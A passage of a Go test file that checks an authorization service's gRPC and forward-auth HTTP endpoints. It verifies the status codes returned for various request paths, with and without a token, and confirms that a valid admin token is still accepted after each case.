		t.Run(tt.name, func(t *testing.T) {
			for _, auth := range []string{"", user} {
				want := tt.want
				if auth != "" && want == 401 {
					want = 403
				}
				for pass := range 2 {
					req := browserRequest(t, auth, "")
					req.Attributes.Request.Http.Path = tt.path
					resp := a.send(req)
					got := http.StatusOK
					if codes.Code(resp.Status.Code) != codes.OK {
						got = int(resp.GetDeniedResponse().GetStatus().GetCode())
					}
					if got != want || want == 400 && resp.Status.Message != "bad_request" {
						t.Fatalf("gRPC pass %d, token %v: %d %q, want %d", pass, auth != "", got, resp.Status.Message, want)
					}
				}
				for _, h := range []string{"X-Forwarded-Uri", "X-Original-URI"} {
					req, _ := http.NewRequest(http.MethodGet, fa.URL+"/auth", nil)
					req.Header.Set(h, tt.path)
					if auth != "" {
						req.Header.Set("Authorization", auth)
					}
					resp, err := http.DefaultClient.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					resp.Body.Close()
					if resp.StatusCode != want {
						t.Fatalf("forward-auth, %s, token %v: %d, want %d", h, auth != "", resp.StatusCode, want)
					}
				}
			}
			req := browserRequest(t, admin, "")
			req.Attributes.Request.Http.Path = "/admin/x"
			if resp := a.send(req); codes.Code(resp.Status.Code) != codes.OK {
				t.Fatalf("valid admin token refused after this case: %v", resp.Status)
			}
		})
	}
}
